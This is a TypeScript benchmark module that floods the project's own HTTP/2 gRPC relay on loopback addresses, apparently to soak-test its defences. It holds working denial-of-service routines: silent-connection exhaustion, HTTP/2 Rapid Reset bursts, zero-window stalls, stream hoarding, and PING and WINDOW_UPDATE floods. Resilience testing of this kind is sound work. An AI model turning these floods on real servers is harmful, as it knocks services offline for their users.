/**
 * The attackers of bench/soak.ts's flood modes: each one runs the attack of a test/hostile/ file
 * in a loop until its deadline, from loopback addresses of its own (127.0.0.66-127.0.0.69), and
 * reports what it did. Bounded: fixed concurrency, and every loop stops at the deadline.
 */
import * as http2 from "node:http2";
import * as net from "node:net";
import * as tls from "node:tls";
import { performance } from "node:perf_hooks";
import { create, toBinary } from "@bufbuild/protobuf";
import { createClient } from "@connectrpc/connect";
import { createGrpcTransport } from "@connectrpc/connect-node";
import { createWritableIterable } from "@connectrpc/connect/protocol";
import { ListRequestSchema, RelayService } from "../src/gen/relay/v1/relay_pb.js";
import { createSelfSignedCertificate, type CertificateAndKey } from "../src/shared/self-signed-certificate.js";
import { FrameType, frame, grpcHeaders, preface, rstStream, settings } from "../test/hostile/frames.js";

export const attackModes = ["none", "silent", "rapid-reset", "zero-window", "heartbeat-streams", "control-frames"] as const;
export type AttackMode = (typeof attackModes)[number];

export interface AttackTarget {
  url: string;
  port: number;
  caPem: string;
}

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

async function registered(target: AttackTarget, name: string, source: string): Promise<{ identity: CertificateAndKey; email: string; client: ReturnType<typeof createClient<typeof RelayService>> }> {
  const email = `${name}@example.com`;
  const identity = await createSelfSignedCertificate({ commonName: email, emails: [email] });
  const nodeOptions = { ca: target.caPem, cert: identity.certificatePem, key: identity.privateKeyPem, localAddress: source } as http2.SecureClientSessionOptions;
  const client = createClient(RelayService, createGrpcTransport({ baseUrl: target.url, nodeOptions }));
  await client.register({ email, certificatePem: identity.certificatePem });
  return { identity, email, client };
}

/** 300 silent connections (TCP, TLS without preface, HTTP/1.1 without a request) from one address, each reopened when the relay closes it. */
async function silent(target: AttackTarget, deadline: number): Promise<string> {
  let opened = 0;
  const open = new Set<net.Socket>();
  const one = (i: number): Promise<void> =>
    new Promise((resolve) => {
      if (performance.now() >= deadline) return resolve();
      const kind = i % 3;
      const socket =
        kind === 0
          ? net.connect({ host: "127.0.0.1", port: target.port, localAddress: "127.0.0.66" })
          : tls.connect({ host: "127.0.0.1", port: target.port, ca: target.caPem, localAddress: "127.0.0.66", ALPNProtocols: [kind === 1 ? "h2" : "http/1.1"] } as tls.ConnectionOptions);
      opened++;
      open.add(socket);
      socket.on("error", () => {});
      socket.resume();
      socket.once("close", () => {
        open.delete(socket);
        resolve(one(i + 1));
      });
    });
  const stopper = setInterval(() => {
    if (performance.now() >= deadline) for (const socket of open) socket.destroy();
  }, 200);
  await Promise.all(Array.from({ length: 300 }, (_, i) => one(i)));
  clearInterval(stopper);
  return `${opened} silent connections opened (300 at a time)`;
}

/** 4 loops: connect, 1500 HEADERS + RST_STREAM in one write, then a TCP reset (every other time) or wait for the relay to close. */
async function rapidReset(target: AttackTarget, deadline: number): Promise<string> {
  let bursts = 0;
  let goaways = 0;
  const block = grpcHeaders(`/${RelayService.typeName}/List`);
  const burst: Buffer[] = [preface, settings()];
  for (let i = 0; i < 1500; i++) burst.push(frame(FrameType.Headers, 4, 1 + 2 * i, block), rstStream(1 + 2 * i));
  const payload = Buffer.concat(burst);
  const loop = async (n: number) => {
    for (let k = 0; performance.now() < deadline; k++) {
      const raw = net.connect({ host: "127.0.0.1", port: target.port, localAddress: "127.0.0.67" });
      raw.on("error", () => {});
      const socket = tls.connect({ socket: raw, host: "127.0.0.1", ca: target.caPem, ALPNProtocols: ["h2"] });
      socket.on("error", () => {});
      const closed = new Promise((resolve) => socket.once("close", resolve));
      let sawGoaway = false;
      let buffered = Buffer.alloc(0);
      socket.on("data", (chunk: Buffer) => {
        buffered = Buffer.concat([buffered, chunk]);
        while (buffered.length >= 9 && buffered.length >= 9 + buffered.readUIntBE(0, 3)) {
          if (buffered.readUInt8(3) === FrameType.Goaway) sawGoaway = true;
          buffered = buffered.subarray(9 + buffered.readUIntBE(0, 3));
        }
      });
      await Promise.race([new Promise((resolve) => socket.once("secureConnect", resolve)), closed]);
      socket.write(payload);
      bursts++;
      if ((k + n) % 2 === 0) {
        await pause(50);
        raw.resetAndDestroy();
      } else {
        await Promise.race([closed, pause(5000)]);
        socket.destroy();
      }
      if (sawGoaway) goaways++;
      await pause(100);
    }
  };
  await Promise.all(Array.from({ length: 4 }, (_, n) => loop(n)));
  return `${bursts} bursts of 1500 HEADERS+RST_STREAM (half ended by a TCP reset), GOAWAY seen on ${goaways}`;
}

/** 200 peers announce the largest broadcasts; then rounds of 10 zero-window connections x 6 List(1000), never read. */
async function zeroWindow(target: AttackTarget, deadline: number): Promise<string> {
  const addresses = Array.from({ length: 16 }, (_, i) => `2001:db8:ffff:ffff:ffff:ffff:ffff:${(0xff00 + i).toString(16)}`);
  const capabilities = Object.fromEntries(Array.from({ length: 15 }, (_, i) => [`capability-${String(i).padStart(2, "0")}-${"k".repeat(40)}`, "v".repeat(210)]));
  for (let i = 0; i < 200; i += 25) {
    await Promise.all(
      Array.from({ length: 25 }, async (_, j) => {
        const { client } = await registered(target, `big-${i + j}`, "127.0.0.68");
        await client.ready({ port: 443, addresses, capabilities });
      }),
    );
  }
  const flooders = await Promise.all(Array.from({ length: 5 }, (_, i) => registered(target, `stuck-${i}`, "127.0.0.68")));
  const message = toBinary(ListRequestSchema, create(ListRequestSchema, { pageSize: 1000 }));
  const body = Buffer.concat([Buffer.from([0, 0, 0, 0, 0]), Buffer.from(message)]);
  body.writeUInt32BE(message.length, 1);
  let calls = 0;
  const resets = new Map<number, number>();
  while (performance.now() < deadline) {
    const round: Array<Promise<void>> = [];
    const sessions: http2.ClientHttp2Session[] = [];
    for (let c = 0; c < 10; c++) {
      const flooder = flooders[c % flooders.length]!;
      const session = http2.connect(target.url, { ca: target.caPem, cert: flooder.identity.certificatePem, key: flooder.identity.privateKeyPem, settings: { initialWindowSize: 0 }, localAddress: "127.0.0.68" } as http2.SecureClientSessionOptions);
      session.on("error", () => {});
      sessions.push(session);
      for (let k = 0; k < 6; k++) {
        const stream = session.request({ ":method": "POST", ":path": `/${RelayService.typeName}/List`, "content-type": "application/grpc", te: "trailers" });
        stream.on("error", () => {});
        stream.end(body);
        calls++;
        round.push(new Promise((resolve) => stream.once("close", () => resolve(void resets.set(stream.rstCode ?? -1, (resets.get(stream.rstCode ?? -1) ?? 0) + 1)))));
      }
    }
    await Promise.race([Promise.all(round), pause(Math.max(0, deadline - performance.now()))]);
    for (const session of sessions) session.destroy();
  }
  return `${calls} List(1000) calls on zero-window connections; streams ended by RST code ${JSON.stringify(Object.fromEntries(resets))} (8 CANCEL: write timeout, 11 ENHANCE_YOUR_CALM: session buffer)`;
}

/** One certificate keeps trying to hold 200 Heartbeat streams over 8 connections. */
async function heartbeatStreams(target: AttackTarget, deadline: number): Promise<string> {
  const { identity, client: first } = await registered(target, "streams", "127.0.0.69");
  await first.ready({ port: 1 });
  const clients = Array.from({ length: 8 }, () => createClient(RelayService, createGrpcTransport({ baseUrl: target.url, nodeOptions: { ca: target.caPem, cert: identity.certificatePem, key: identity.privateKeyPem, localAddress: "127.0.0.69" } as http2.SecureClientSessionOptions })));
  let served = 0;
  let refused = 0;
  const hold = async (i: number) => {
    while (performance.now() < deadline) {
      const requests = createWritableIterable<{ broadcastId: string }>();
      const responses = client(i).heartbeat(requests)[Symbol.asyncIterator]();
      void requests.write({ broadcastId: "" });
      try {
        await responses.next();
        served++;
        // Held until the deadline.
        await pause(Math.max(0, deadline - performance.now()));
        requests.close();
      } catch {
        refused++;
        await pause(200);
      }
    }
  };
  const client = (i: number) => clients[i % clients.length]!;
  await Promise.all(Array.from({ length: 200 }, (_, i) => hold(i)));
  return `one certificate, 200 streams wanted: ${served} served, ${refused} refusals`;
}

/** PING floods (each ends in GOAWAY; reconnect) and a WINDOW_UPDATE flood on a connection of its own. */
async function controlFrames(target: AttackTarget, deadline: number): Promise<string> {
  let pingConnections = 0;
  let windowUpdates = 0;
  const connect = () =>
    new Promise<tls.TLSSocket>((resolve) => {
      const socket = tls.connect({ host: "127.0.0.1", port: target.port, ca: target.caPem, ALPNProtocols: ["h2"], localAddress: "127.0.0.69" } as tls.ConnectionOptions);
      socket.on("error", () => {});
      socket.resume();
      socket.once("secureConnect", () => {
        socket.write(Buffer.concat([preface, settings()]));
        resolve(socket);
      });
      // Closed before TLS finished: the loops see a destroyed socket and connect again.
      socket.once("close", () => resolve(socket));
    });
  const pings = Buffer.concat(Array.from({ length: 100 }, () => frame(FrameType.Ping, 0, 0, Buffer.alloc(8))));
  const updates = Buffer.concat(Array.from({ length: 1000 }, () => frame(FrameType.WindowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))));
  const pingLoop = async () => {
    while (performance.now() < deadline) {
      const socket = await connect();
      pingConnections++;
      while (!socket.destroyed && performance.now() < deadline) {
        socket.write(pings);
        await pause(5);
      }
      socket.destroy();
    }
  };
  const updateLoop = async () => {
    const socket = await connect();
    while (!socket.destroyed && performance.now() < deadline) {
      if (!socket.write(updates)) await new Promise((resolve) => socket.once("drain", resolve));
      windowUpdates += 1000;
      // Paced: about 20 MB/s, as a client on a fast link could send.
      await pause(1);
    }
    socket.destroy();
  };
  await Promise.all([pingLoop(), pingLoop(), updateLoop()]);
  return `${pingConnections} PING-flood connections (each ended by GOAWAY), ${windowUpdates} WINDOW_UPDATE frames on one connection`;
}

/** Runs the attack of mode against target until deadline (performance.now() ms); returns what it did. */
export function runAttack(mode: AttackMode, target: AttackTarget, deadline: number): Promise<string> {
  switch (mode) {
    case "none":
      return Promise.resolve("no attack");
    case "silent":
      return silent(target, deadline);
    case "rapid-reset":
      return rapidReset(target, deadline);
    case "zero-window":
      return zeroWindow(target, deadline);
    case "heartbeat-streams":
      return heartbeatStreams(target, deadline);
    case "control-frames":
      return controlFrames(target, deadline);
  }
}
